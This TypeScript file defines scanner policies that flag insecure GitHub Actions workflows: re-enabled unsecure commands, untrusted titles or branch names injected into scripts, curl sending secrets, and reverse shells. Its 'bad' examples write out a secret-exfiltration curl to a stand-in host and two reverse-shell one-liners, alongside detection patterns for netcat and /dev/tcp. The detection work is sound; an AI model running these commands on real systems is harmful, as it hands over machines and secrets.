/** Scripts in the steps of GitHub's workflows: what gets into them, and what they send away. */
import { child, itemsOf, type Node, textOf } from "../../../formats/node.ts";
import { commandNodes } from "../../../formats/shell-words/command-nodes.ts";
import type { Condition } from "../../condition.ts";
import { type Command, commandOf } from "../../families/commands.ts";
import { type Policy, workflow } from "../../policy.ts";
import { failAt, notApplicable, passAt } from "../../verdict.ts";

const hardening = "https://docs.github.com/actions/reference/security/secure-use";

/** Values that anybody on the internet can write: titles, texts, names of branches. */
const foreign =
  /\$\{\{[^}]*\bgithub\.(?:head_ref|event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|pages\b[^}]*\.page_name|commits\b[^}]*\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|head_commit\.message|head_repository\.description|pull_requests\b[^}]*\.head\.ref)))\b[^}]*\}\}/;

/** `github.event['issue'].title` is `github.event.issue.title`. */
function withDots(text: string): string {
  return text.replaceAll(/\[\s*'([\w-]+)'\s*\]/g, ".$1");
}

/** Asked of steps that run a script. */
function script(judge: (text: string, node: Node) => string | undefined): Condition {
  return (node) => {
    const run = child(node, "run");
    const text = textOf(run);
    if (!run || text === undefined) return notApplicable;
    const why = judge(text, run);
    return why === undefined ? passAt(run.at) : failAt(run, why);
  };
}

function commandsOf(text: string, node: Node): readonly Command[] {
  // Expressions would be read as shell otherwise.
  const plain = text.replace(/\$\{\{[^}]*\}\}/g, (expression) => expression.replace(/[^\w.]/g, "_"));
  return itemsOf(commandNodes({ text: plain, placeOf: () => node.at })).map(commandOf);
}

/** Data, forms, uploads and addresses; a header is how one signs in. */
function sendsSecret({ program, words }: Command): boolean {
  if (program !== "curl" && program !== "wget") return false;
  return words.some(({ text }, at) => {
    const before = words[at - 1]?.text ?? "";
    const isSignIn = /^(?:-H|--header|-u|--user|--oauth2-bearer|--password|--http-password)$/.test(before);
    const isOwn = /^(?:-H|--header=|-u|--user=|--oauth2-bearer=|--password=|--http-password=)./.test(text);
    return !isSignIn && !isOwn && /_secrets\.\w+/.test(text);
  });
}

function opensShell({ program, words, text }: Command): boolean {
  const isNetcat = /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/.test(program);
  if (isNetcat) return words.some(({ text: word }) => /^-\w*[ec]$|^--(?:sh-)?exec/.test(word)) || hasAddress(words);
  return /\/dev\/(?:tcp|udp)\//.test(text) && /^(?:ba|z|k)?sh$|^exec$/.test(program);
}

/** nc ADDRESS PORT; with -z it only looks whether somebody listens, and -U is a socket of the machine itself. */
function hasAddress(words: Command["words"]): boolean {
  if (words.some(({ text }) => /^-\w*[zUlh]/.test(text))) return false;
  return words.some(({ text }) => /^(?!127\.|0\.0\.0\.0)\d{1,3}(?:\.\d{1,3}){3}$/.test(text));
}

const unsecure: Condition = (node) => {
  const setting = child(child(node, "env"), "ACTIONS_ALLOW_UNSECURE_COMMANDS");
  const isOn = setting?.is === "scalar" && /^(?:true|1|yes)$/i.test(String(setting.value));
  return isOn ? failAt(setting, "the commands are allowed again") : passAt(node.at);
};

const step = (run: string) =>
  workflow(
    `on: pull_request\npermissions: read-all\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n    - run: |\n        ${run}\n`,
  );
const job = (env: string) =>
  workflow(
    `on: push\npermissions: read-all\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    env:\n      ${env}\n    steps:\n    - run: make\n`,
  );

export const policies: readonly Policy[] = [
  {
    id: "iac/github-allows-unsecure-commands",
    aliases: ["CKV_GHA_1"],
    title: "Output of a step may set variables and paths",
    severity: "high",
    why: "Whoever gets a line into the log, through a title or the output of a test, changes the environment of later steps.",
    fix: "Remove ACTIONS_ALLOW_UNSECURE_COMMANDS, and write to $GITHUB_ENV and $GITHUB_PATH instead.",
    links: ["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"],
    controls: "pipeline-security",
    on: { "workflow:job": unsecure, "workflow:step": unsecure, "workflow:file": unsecure },
    examples: {
      bad: [job("ACTIONS_ALLOW_UNSECURE_COMMANDS: true")],
      good: [job("ACTIONS_ALLOW_UNSECURE_COMMANDS: false")],
    },
  },
  {
    id: "iac/github-script-takes-foreign-text",
    aliases: ["CKV_GHA_2"],
    title: "Text that anybody can write becomes part of a script",
    severity: "high",
    why: "The expression is put into the script before the shell reads it. A title with a quote and a command in it runs with the rights of the workflow.",
    fix: 'Give the value to the step as a variable under env, and use "$NAME" in the script.',
    links: [hardening],
    controls: "pipeline-security",
    on: {
      "workflow:step": script((text) =>
        foreign.test(withDots(text)) ? "a value from outside is put into the script" : undefined,
      ),
    },
    examples: {
      bad: [
        step(`echo "\${{ github.event.issue.title }}"`),
        step(`git checkout \${{ github.head_ref }}`),
        step(`echo \${{ github.event.issue['title'] }}`),
      ],
      good: [step(`echo "$TITLE \${{ github.event.issue.number }} \${{ github.sha }}"`)],
    },
  },
  {
    id: "iac/github-script-sends-secret",
    aliases: ["CKV_GHA_3"],
    title: "A script sends a secret to a server",
    severity: "medium",
    why: "A secret in the data or the address of a request is how secrets are carried off, and it ends up in the logs of the server.",
    fix: "Sign in with a header, or let the action of the service do it. If nobody knows the line, replace the secret.",
    links: [hardening],
    controls: "secret-handling",
    on: {
      "workflow:step": script((text, node) =>
        commandsOf(text, node).some(sendsSecret) ? "curl is given a secret as data or in the address" : undefined,
      ),
    },
    examples: {
      bad: [step(`curl -d "\${{ secrets.TOKEN }}" https://collect.example/`)],
      good: [step(`curl -H "Authorization: Bearer \${{ secrets.TOKEN }}" https://api.example/`)],
    },
  },
  {
    id: "iac/github-script-opens-shell",
    aliases: ["CKV_GHA_4"],
    title: "A script opens a shell to another machine",
    severity: "high",
    why: "A reverse shell gives somebody else the machine of the job, with its source code and its secrets.",
    fix: "Remove the line, find out who wrote it, and replace all secrets that the workflow could read.",
    links: [hardening],
    controls: "pipeline-security",
    on: {
      "workflow:step": script((text, node) =>
        commandsOf(text, node).some(opensShell) ? "this connects a program to another machine" : undefined,
      ),
    },
    examples: {
      bad: [step("nc -e /bin/sh 203.0.113.7 4444"), step("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")],
      good: [step("nc -z localhost 5432")],
    },
  },
];
